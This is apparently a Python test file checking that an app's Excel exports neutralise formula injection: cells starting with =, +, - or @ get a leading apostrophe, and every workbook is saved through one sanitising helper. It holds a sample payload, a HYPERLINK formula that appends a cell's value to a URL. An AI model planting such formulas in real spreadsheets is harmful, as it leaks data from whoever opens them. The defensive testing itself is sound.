"""Issue 27: no workbook the app writes runs a person's text as a formula. The contribution workbook wrote a team
name starting with = as a live formula; every workbook now leaves through monitor.spreadsheets.workbook_bytes."""

from __future__ import annotations

import io
import re
from pathlib import Path

from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, text

from monitor.config import Settings
from monitor.reports import contribution, files
from monitor.spreadsheets import workbook_bytes
from tests.unit.reports.test_contribution import Q3, _city

HOSTILE = '=HYPERLINK("http://127.0.0.1:9/?"&B5,"open")'
MONITOR = Path(__file__).resolve().parents[2] / "monitor"


def texts(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [c.value for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)]


def test_a_team_named_like_a_formula_is_text_in_the_contribution_workbook(engine: Engine, settings: Settings) -> None:
    engine, big, _small = _city(engine)
    with engine.begin() as connection:
        connection.execute(text("UPDATE teams SET name = :name WHERE id = :id"), {"name": HOSTILE, "id": big.id})
    report = contribution.contribution(engine, settings, big.leader, Q3, big.id)

    cells = texts(files.workbook(report, "en", lambda breakdown, key: key))

    assert "'" + HOSTILE in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_every_text_cell_of_every_sheet_is_made_safe_and_numbers_stay_numbers() -> None:
    book = Workbook()
    book.active.append(["=1+1", "+31 70", "-note", "@sum", "\tx", "plain", -3, 2.5])  # type: ignore[union-attr]
    book.create_sheet("Other").append(["=A1"])

    content = load_workbook(io.BytesIO(workbook_bytes(book)))

    first = [c.value for c in content.worksheets[0][1]]
    assert first == ["'=1+1", "'+31 70", "'-note", "'@sum", "'\tx", "plain", -3, 2.5]
    assert content.worksheets[1]["A1"].value == "'=A1"


def test_no_module_saves_a_workbook_another_way() -> None:
    saving = [
        path.relative_to(MONITOR).as_posix()
        for path in MONITOR.rglob("*.py")
        if re.search(r"\.save\((out|buffer|io\.|BytesIO)", path.read_text()) and path.name != "spreadsheets.py"
    ]
    writers = {
        path.relative_to(MONITOR).as_posix() for path in MONITOR.rglob("*.py") if "Workbook()" in path.read_text()
    }

    assert saving == []
    assert writers == {
        p.relative_to(MONITOR).as_posix() for p in MONITOR.rglob("*.py") if "workbook_bytes(" in p.read_text()
    } - {"spreadsheets.py"}
